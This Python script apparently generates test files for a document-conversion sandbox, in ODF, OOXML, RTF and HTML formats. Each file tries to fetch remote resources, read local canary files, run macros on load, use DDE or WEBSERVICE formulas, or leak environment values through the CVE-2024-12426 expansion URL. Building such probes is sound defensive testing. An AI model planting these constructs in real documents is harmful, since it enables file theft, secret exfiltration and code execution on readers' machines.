# SPDX-License-Identifier: Apache-2.0
"""Documents that link to what they do not hold, and documents with programs in them."""

import io
import zipfile

from targets import http, secret, write

OFFICE = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = " ".join(
    [f'xmlns:{name}="{OFFICE}:{name}:1.0"' for name in "office text table style script form presentation".split()]
    + [f'xmlns:draw="{OFFICE}:drawing:1.0"']
    + [f'xmlns:svg="{OFFICE}:svg-compatible:1.0"', f'xmlns:fo="{OFFICE}:xsl-fo-compatible:1.0"']
    + ['xmlns:xlink="http://www.w3.org/1999/xlink"', 'xmlns:ooo="http://openoffice.org/2004/office"']
    + ['xmlns:dom="http://www.w3.org/2001/xml-events"', f'xmlns:of="{OFFICE}:of:1.2"']
)
LOAD = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'


def flat(kind, body, before=""):
    root = {"text": "text", "spreadsheet": "spreadsheet", "presentation": "presentation", "drawing": "graphics"}[kind]
    element = "drawing" if kind == "drawing" else kind
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document {SPACES} office:version="1.2" '
        f'office:mimetype="application/vnd.oasis.opendocument.{root}">{before}<office:body><office:{element}>{body}'
        f"</office:{element}></office:body></office:document>"
    )


def frame(content, anchor='text:anchor-type="as-char" '):
    return f'<draw:frame {anchor}svg:x="1cm" svg:y="1cm" svg:width="5cm" svg:height="5cm">{content}</draw:frame>'


def image(address, anchor='text:anchor-type="as-char" '):
    return frame(f'<draw:image xlink:href="{address}" {LOAD}/>', anchor)


# Pictures, in whatever can show one.
write("image-http.fodt", flat("text", f"<text:p>{image(f'{http}/image-http.png')}</text:p>"))
write("image-file.fodt", flat("text", f"<text:p>{image(f'file://{secret}/canary.png')}</text:p>"))
write("image-relative.fodt", flat("text", f"<text:p>{image('side.png')}</text:p>"))
page = '<draw:page draw:name="a">{}</draw:page>'
write("image-http-slides.fodp", flat("presentation", page.format(image(f"{http}/image-http-slides.png", ""))))
write("image-file-slides.fodp", flat("presentation", page.format(image(f"file://{secret}/canary.png", ""))))
write("image-file-drawing.fodg", flat("drawing", page.format(image(f"file://{secret}/canary.png", ""))))
shape = (
    '<table:table table:name="A"><table:shapes>{}</table:shapes><table:table-row><table:table-cell '
    'office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'
)
write("image-file-cells.fods", flat("spreadsheet", shape.format(image(f"file://{secret}/canary.png", ""))))
background = (
    '<office:automatic-styles><style:style style:name="P" style:family="paragraph"><style:paragraph-properties>'
    '<style:background-image xlink:href="{}" xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties>'
    "</style:style></office:automatic-styles>"
)
write(
    "background-file.fodt",
    flat("text", '<text:p text:style-name="P">a</text:p>', background.format(f"file://{secret}/canary.png")),
)
write(
    "background-http.fodt",
    flat("text", '<text:p text:style-name="P">a</text:p>', background.format(f"{http}/background-http.png")),
)
fill = (
    '<office:styles><draw:fill-image draw:name="F" xlink:href="{}" xlink:type="simple" xlink:show="embed" '
    'xlink:actuate="onLoad"/></office:styles><office:automatic-styles><style:style style:name="g" '
    'style:family="graphic"><style:graphic-properties draw:fill="bitmap" draw:fill-image-name="F"/></style:style>'
    "</office:automatic-styles>"
)
rectangle = '<draw:rect draw:style-name="g" svg:x="1cm" svg:y="1cm" svg:width="5cm" svg:height="5cm"/>'
write(
    "fill-file.fodg", flat("drawing", page.format(rectangle), fill.format(f"file://{secret}/canary.png"))
)
bullet = (
    '<office:automatic-styles><text:list-style style:name="L"><text:list-level-style-image text:level="1" '
    'xlink:href="{}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"><style:list-level-properties '
    'fo:width="2cm" fo:height="2cm"/></text:list-level-style-image></text:list-style></office:automatic-styles>'
)
write(
    "bullet-http.fodt",
    flat(
        "text",
        '<text:list text:style-name="L"><text:list-item><text:p>a</text:p></text:list-item></text:list>',
        bullet.format(f"{http}/bullet-http.png"),
    ),
)
write("page.html", f'<html><body><img src="{http}/page.png"><img src="file://{secret}/canary.png"></body></html>')
write(
    "style.html",
    f'<html><head><link rel="stylesheet" href="{http}/style.css"></head><body background="{http}/style.png">'
    f'<iframe src="{http}/style.frame.html"></iframe><object data="{http}/style.object.html"></object><p>a</p>'
    "</body></html>",
)

# Other documents.
LINKED = {
    "object-file": f'<draw:object xlink:href="file://{secret}/canary.odt" {LOAD}/>',
    "object-http": f'<draw:object xlink:href="{http}/object-http.odt" {LOAD}/>',
    "ole-http": f'<draw:object-ole xlink:href="{http}/ole-http.bin" {LOAD}/>',
    "floating-http": f'<draw:floating-frame xlink:href="{http}/floating-http.html" {LOAD}/>',
}
for name, element in LINKED.items():
    write(f"{name}.fodt", flat("text", f"<text:p>{frame(element)}</text:p>"))
film = f'<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="{http}/plugin-http.mp4" {LOAD}/>'
write("plugin-http.fodp", flat("presentation", page.format(frame(film, ""))))
section = (
    '<text:section text:name="s"><text:section-source xlink:href="{}" xlink:type="simple"{}/><text:p>a</text:p>'
    "</text:section>"
)
write("section-file.fodt", flat("text", section.format(f"file://{secret}/canary.txt", "")))
write("section-odt.fodt", flat("text", section.format(f"file://{secret}/canary.odt", ' text:filter-name="writer8"')))
write("section-http.fodt", flat("text", section.format(f"{http}/section-http.odt", "")))
settings = (
    '<office:meta xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><meta:template xlink:type="simple" '
    f'xlink:actuate="onRequest" xlink:href="{http}/template-http.ott"/><meta:auto-reload xlink:type="simple" '
    f'xlink:actuate="onLoad" xlink:show="replace" xlink:href="{http}/template-http.reload.odt" meta:delay="PT0S"/>'
    "</office:meta>"
)
write("template-http.fodt", flat("text", "<text:p>a</text:p>", settings))

# Cells.
cell = '<table:table table:name="A"><table:table-row>{}</table:table-row></table:table>'
formula = '<table:table-cell table:formula="of:={}" office:value-type="string"><text:p>old</text:p></table:table-cell>'


def formulas(*texts):
    return flat("spreadsheet", cell.format("".join(formula.format(text) for text in texts)))


service = "COM.MICROSOFT.WEBSERVICE(&quot;{}&quot;)"
write("service-http.fods", formulas(service.format(f"{http}/service-http")))
write("service-file.fods", formulas(service.format(f"file://{secret}/canary.txt")))
write("reference-file.fods", formulas(f"&apos;file://{secret}/canary.ods&apos;#$A.A1"))
write("reference-http.fods", formulas(f"&apos;{http}/reference-http.ods&apos;#$A.A1"))
write(
    "exchange.fods",
    formulas(f"DDE(&quot;soffice&quot;;&quot;{secret}/canary.ods&quot;;&quot;A.A1&quot;)"),
)
source = (
    '<table:table table:name="A"><table:table-source xlink:type="simple" xlink:href="{}" table:filter-name="calc8" '
    'table:table-name="A" table:mode="copy-all"/><table:table-row><table:table-cell/></table:table-row></table:table>'
)
write("table-file.fods", flat("spreadsheet", source.format(f"file://{secret}/canary.ods")))
write("table-http.fods", flat("spreadsheet", source.format(f"{http}/table-http.ods")))
ranged = (
    '<table:table table:name="A"><table:table-row><table:table-cell><table:cell-range-source table:name="all" '
    'xlink:type="simple" xlink:href="{}" table:filter-name="calc8" table:last-column-spanned="1" '
    'table:last-row-spanned="1"/></table:table-cell></table:table-row></table:table>'
)
write("range-file.fods", flat("spreadsheet", ranged.format(f"file://{secret}/canary.ods")))
imaged = f'IMAGE(&quot;{http}/cell-image.png&quot;)'
write("cell-image.fods", formulas(imaged))

# What leaks the environment (CVE-2024-12426).
expanded = f"vnd.sun.star.expand:{http}/NAME/$VIGNETTE_CANARY/${{file://{secret}/canary.ini:Bootstrap:Secret}}"
write("expand-image.fodt", flat("text", f"<text:p>{image(expanded.replace('NAME', 'expand-image'))}</text:p>"))
write("expand-section.fodt", flat("text", section.format(expanded.replace("NAME", "expand-section"), "")))

# Programs: each leaves a file where it runs.
module = (
    '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded '
    'ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub R\n Open "{}" For Output As #1\n Print #1,"x"\n'
    ' Close #1\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>'
    '<office:event-listeners>{}</office:event-listeners></office:scripts>'
)
listener = (
    '<script:event-listener script:language="ooo:script" script:event-name="{}" xlink:href="{}" '
    'xlink:type="simple"/>'
)
EVENTS = {"load": "dom:load", "focus": "office:layout-complete", "view": "office:view-created", "new": "office:new"}
for name, event in EVENTS.items():
    call = listener.format(event, "vnd.sun.star.script:Standard.M.R?language=Basic&amp;location=document")
    write(f"macro-{name}.fodt", flat("text", "<text:p>a</text:p>", module.format(f"{secret}/macro-{name}", call)))
python = "vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&amp;location=share"
call = listener.format("dom:load", python)
write("macro-python.fodt", flat("text", "<text:p>a</text:p>", module.format(f"{secret}/x", call)))

# OOXML.
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
MAIN = "application/vnd.openxmlformats-officedocument.{}+xml"


def relation(number, kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r{number}" Type="{KIND}/{kind}" Target="{target}"{mode}/>'


def package(name, main, kind, parts):
    file = io.BytesIO()
    types = f'<Override PartName="/{main}" ContentType="{MAIN.format(kind)}"/>' + parts.pop("types", "")
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(types))
        archive.writestr("_rels/.rels", RELATIONS.format(relation(1, "officeDocument", main, False)))
        for path, data in parts.items():
            archive.writestr(path, data)
    write(name, file.getvalue())


def word(name, body, relations="", more={}):
    document = (
        f'<w:document xmlns:w="{WORD}" xmlns:r="{KIND}" xmlns:a="{DRAWING}/main" xmlns:pic="{DRAWING}/picture" '
        f'xmlns:wp="{DRAWING}/wordprocessingDrawing"><w:body>{body}</w:body></w:document>'
    )
    parts = {"word/document.xml": document, "word/_rels/document.xml.rels": RELATIONS.format(relations)}
    package(name, "word/document.xml", "wordprocessingml.document.main", parts | more)


picture = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1800000"/><wp:docPr id="1" name="a"/><a:graphic>'
    f'<a:graphicData uri="{DRAWING}/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/>'
    '</pic:nvPicPr><pic:blipFill><a:blip r:link="r1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1800000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
    "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
word("link-http.docx", picture, relation(1, "image", f"{http}/link-http.png"))
word("link-file.docx", picture, relation(1, "image", f"file://{secret}/canary.png"))
word("link-relative.docx", picture, relation(1, "image", "side.png"))


def field(code):
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


word("include-http.docx", field(f'INCLUDEPICTURE "{http}/include-http.png" \\d'))
word("include-file.docx", field(f'INCLUDEPICTURE "{secret}/canary.png" \\d'))
word("include-text.docx", field(f'INCLUDETEXT "{secret}/canary.txt"'))
word("exchange-word.docx", field(f'DDEAUTO soffice "{secret}/canary.odt" a'))
template = f'<w:settings xmlns:w="{WORD}" xmlns:r="{KIND}"><w:attachedTemplate r:id="r1"/></w:settings>'
word(
    "template-http-word.docx",
    "<w:p><w:r><w:t>a</w:t></w:r></w:p>",
    relation(2, "settings", "settings.xml", False),
    {
        "word/settings.xml": template,
        "word/_rels/settings.xml.rels": RELATIONS.format(
            relation(1, "attachedTemplate", f"{http}/template-http-word.dotx")
        ),
        "types": f'<Override PartName="/word/settings.xml" ContentType="{MAIN.format("wordprocessingml.settings")}"/>',
    },
)
chunked = '<w:altChunk r:id="r1"/>'
word("chunk-http.docx", chunked, relation(1, "aFChunk", f"{http}/chunk-http.html"))
for name, address in {"http": f"{http}/include-http-rich.png", "file": f"{secret}/canary.png"}.items():
    inside = '{\\*\\fldinst INCLUDEPICTURE "' + address + '" \\\\d}{\\fldrslt old}'
    write(f"include-{name}-rich.rtf", "{\\rtf1 a{\\field" + inside + "}}")
write("template-http-rich.rtf", "{\\rtf1{\\*\\template " + http + "/template-http-rich.dot} a}")

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
package(
    "external.xlsx",
    "xl/workbook.xml",
    "spreadsheetml.sheet.main",
    {
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{KIND}"><sheets><sheet name="A" sheetId="1" r:id="r1"/>'
        '</sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>',
        "xl/_rels/workbook.xml.rels": RELATIONS.format(
            relation(1, "worksheet", "worksheets/sheet1.xml", False)
            + relation(2, "externalLink", "externalLinks/externalLink1.xml", False)
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><f>[1]A!A1</f><v>0</v>'
        "</c></row></sheetData></worksheet>",
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}" xmlns:r="{KIND}"><externalBook r:id="r1">'
        '<sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": RELATIONS.format(
            relation(1, "externalLinkPath", f"file://{secret}/canary.ods")
        ),
        "types": '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
        + MAIN.format("spreadsheetml.worksheet")
        + '"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
        + MAIN.format("spreadsheetml.externalLink")
        + '"/>',
    },
)
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
shown = (
    '<p:pic><p:nvPicPr><p:cNvPr id="2" name="a"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="r1"/>'
    '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="4000000" '
    'cy="4000000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>'
)
for name, address in {"http": f"{http}/link-http-slides.png", "file": f"file://{secret}/canary.png"}.items():
    spaces = f'xmlns:p="{SLIDE}" xmlns:a="{DRAWING}/main" xmlns:r="{KIND}"'
    package(
        f"link-{name}-slides.pptx",
        "ppt/presentation.xml",
        "presentationml.presentation.main",
        {
            "ppt/presentation.xml": f'<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>',
            "ppt/_rels/presentation.xml.rels": RELATIONS.format(relation(1, "slide", "slides/slide1.xml", False)),
            "ppt/slides/slide1.xml": f"<p:sld {spaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id='1' name=''/>"
            f"<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{shown}</p:spTree></p:cSld></p:sld>",
            "ppt/slides/_rels/slide1.xml.rels": RELATIONS.format(relation(1, "image", address)),
            "types": '<Override PartName="/ppt/slides/slide1.xml" ContentType="'
            + MAIN.format("presentationml.slide")
            + '"/>',
        },
    )
